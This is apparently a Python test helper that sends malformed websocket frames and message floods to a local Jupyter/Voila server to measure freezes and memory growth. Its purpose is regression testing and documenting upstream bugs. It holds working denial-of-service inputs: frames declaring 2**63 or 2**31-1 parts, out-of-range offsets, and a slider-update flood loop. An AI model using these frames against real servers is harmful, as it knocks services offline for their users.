"""Crafted kernel-websocket frames sent to a server on this machine, and probes of how it copes.

Shared by the regression test (tests/test_ws_attack.py) and the "before" figures of
docs/upstream-bugs.md. Loopback only; every loop is bounded in count and time.
"""

from __future__ import annotations

import asyncio
import threading
import re
import struct
import time
import urllib.request
from pathlib import Path

from tornado.httpclient import HTTPRequest
from tornado.ioloop import IOLoop
from tornado.websocket import WebSocketClosedError, websocket_connect

V1 = "v1.kernel.websocket.jupyter.org"

# the frame: 8 bytes declaring 2**63 parts (v1: jupyter_server deserialize_msg_from_ws_v1)
V1_FREEZE = (2**63).to_bytes(8, "little")
# legacy binary format: 4 bytes declaring 2**31 - 1 parts (jupyter_server deserialize_binary_message)
LEGACY_FREEZE = struct.pack("!i", 2**31 - 1)
# v1 frame whose offsets point far beyond its end
V1_OFFSETS_BEYOND = (6).to_bytes(8, "little") + b"".join(
    o.to_bytes(8, "little") for o in (56, 61, 62, 63, 64, 10**12)) + b"shell"



def run_loop(go, timeout: float):
    """``IOLoop().run_sync(go)`` on a thread of its own: when the browser tests ran first in the
    same session, Playwright's sync API keeps an event loop running on the main thread."""
    result: dict = {}

    def target():
        try:
            result["value"] = IOLoop().run_sync(go, timeout=timeout)
        except BaseException as e:  # re-raised on the caller's thread
            result["error"] = e

    thread = threading.Thread(target=target)
    thread.start()
    thread.join()
    if "error" in result:
        raise result["error"]
    return result["value"]

def open_page(base: str, notebook: str, timeout: float = 120) -> tuple[str, str]:
    """GET a Voila page like a browser without JavaScript: (kernel id, Cookie header value)."""
    with urllib.request.urlopen(f"{base}voila/render/{notebook}", timeout=timeout) as resp:
        html = resp.read().decode()
        cookies = "; ".join(c.split(";", 1)[0] for c in resp.headers.get_all("Set-Cookie") or [])
    match = re.search(r'"kernelId":\s*"([0-9a-f-]{36})"', html)
    assert match, "no kernel id on the page"
    return match.group(1), cookies


def send_frames(base: str, kernel_id: str, frames: list[bytes], subprotocol: str | None = V1,
                cookies: str = "", timeout: float = 10, wait: float = 3) -> int | None:
    """Open the kernel's websocket, send the frames, return the close code (None: still open after ``wait`` s)."""

    async def go():
        url = base.replace("http", "ws", 1) + f"api/kernels/{kernel_id}/channels?session_id=attack"
        request = HTTPRequest(url, headers={"Cookie": cookies} if cookies else {}, request_timeout=timeout)
        ws = await websocket_connect(request, subprotocols=[subprotocol] if subprotocol else None)
        try:
            for frame in frames:
                try:
                    await ws.write_message(frame, binary=True)
                except WebSocketClosedError:  # closed by the server before the frame was all sent
                    break
            deadline = time.monotonic() + wait
            while time.monotonic() < deadline:
                try:
                    msg = await asyncio.wait_for(ws.read_message(), deadline - time.monotonic())
                except asyncio.TimeoutError:
                    break
                if msg is None:  # closed; 1006 (RFC 6455): dropped without a close frame
                    return ws.close_code or 1006
            return None
        finally:
            ws.close()

    return run_loop(go, timeout + 5)


def probe_seconds(base: str, timeout: float = 5) -> float:
    """Seconds another visitor waits for a small answer from the server (timeout if frozen)."""
    start = time.perf_counter()
    try:
        with urllib.request.urlopen(f"{base}voila/static/voila.js", timeout=timeout) as resp:
            resp.read(100)
    except OSError:
        return float("inf")
    return time.perf_counter() - start


def rss_mb(pid: int) -> float:
    """Resident memory of one process (the server itself, not its kernels), in MB."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    raise RuntimeError("no VmRSS")


def kernel_info_ok(base: str, kernel_id: str, cookies: str = "", timeout: float = 20) -> bool:
    """A well-formed v1 kernel_info_request gets its reply (the guard lets real traffic through)."""
    import json
    import uuid

    from jupyter_server.services.kernels.connection.base import serialize_msg_to_ws_v1

    async def go():
        url = base.replace("http", "ws", 1) + f"api/kernels/{kernel_id}/channels?session_id=probe"
        request = HTTPRequest(url, headers={"Cookie": cookies} if cookies else {}, request_timeout=timeout)
        ws = await websocket_connect(request, subprotocols=[V1])
        header = {"msg_id": uuid.uuid4().hex, "msg_type": "kernel_info_request", "session": "probe",
                  "username": "", "date": "", "version": "5.3"}
        parts = [json.dumps(p).encode() for p in (header, {}, {}, {})]
        await ws.write_message(serialize_msg_to_ws_v1(parts, "shell"), binary=True)
        while True:
            msg = await ws.read_message()
            if msg is None:
                return False
            if isinstance(msg, bytes) and b"kernel_info_reply" in msg:
                ws.close()
                return True
        ws.close()

    return run_loop(go, timeout)


def _ws_msg(msg_type: str, session: str, content: dict, metadata: dict | None = None) -> bytes:
    import json
    import uuid

    from jupyter_server.services.kernels.connection.base import serialize_msg_to_ws_v1

    header = {"msg_id": uuid.uuid4().hex, "msg_type": msg_type, "session": session, "username": "",
              "date": "", "version": "5.3"}
    return serialize_msg_to_ws_v1([json.dumps(p).encode() for p in (header, {}, metadata or {}, content)], "shell")


async def _slider_of(ws, session: str, timeout: float = 30) -> str:
    """The comm id of the page's timeline slider, asked the way the widget manager asks."""
    import json

    from jupyter_server.services.kernels.connection.base import deserialize_msg_from_ws_v1

    control = "control-" + session
    await ws.write_message(_ws_msg("comm_open", session, {"comm_id": control, "target_name": "jupyter.widget.control",
                                                          "data": {}}, {"version": "1.0.0"}), binary=True)
    await ws.write_message(_ws_msg("comm_msg", session, {"comm_id": control, "data": {"method": "request_states"}}),
                           binary=True)
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        frame = await asyncio.wait_for(ws.read_message(), deadline - time.monotonic())
        if frame is None:
            raise ConnectionError("closed before the widget states came")
        if not isinstance(frame, bytes):
            continue
        _, parts = deserialize_msg_from_ws_v1(frame)
        content = json.loads(parts[3])
        states = content.get("data", {}).get("states") if isinstance(content.get("data"), dict) else None
        if states:
            return next(m for m, s in states.items() if s.get("state", {}).get("_model_name") == "SelectionSliderModel")
    raise TimeoutError("no widget states")


def flood_slider(base: str, kernel_id: str, seconds: float = 5.0) -> dict:
    """A script moving the kernel's timeline slider as fast as the socket takes it for ``seconds``,
    reconnecting whenever the server closes it (bounded in time). Returns counts."""
    from tornado.httpclient import HTTPClientError

    stats = {"sent": 0, "connections": 0, "refused": 0}

    async def go():
        slider, deadline = None, time.monotonic() + seconds
        while time.monotonic() < deadline:
            url = base.replace("http", "ws", 1) + f"api/kernels/{kernel_id}/channels?session_id=flood"
            try:
                ws = await websocket_connect(HTTPRequest(url, request_timeout=5), subprotocols=[V1])
            except (HTTPClientError, OSError):
                stats["refused"] += 1
                await asyncio.sleep(0.05)
                continue
            stats["connections"] += 1
            try:
                if slider is None:
                    slider = await _slider_of(ws, "flood")
                i = 0
                while time.monotonic() < deadline:
                    i += 1
                    await ws.write_message(_ws_msg("comm_msg", "flood", {"comm_id": slider, "data": {
                        "method": "update", "state": {"index": i % 12}, "buffer_paths": []}}), binary=True)
                    stats["sent"] += 1
                    if i % 100 == 0:
                        await asyncio.sleep(0)  # let a close from the server arrive
            except (WebSocketClosedError, ConnectionError, asyncio.TimeoutError):
                pass
            finally:
                ws.close()

    run_loop(go, seconds + 60)
    return stats
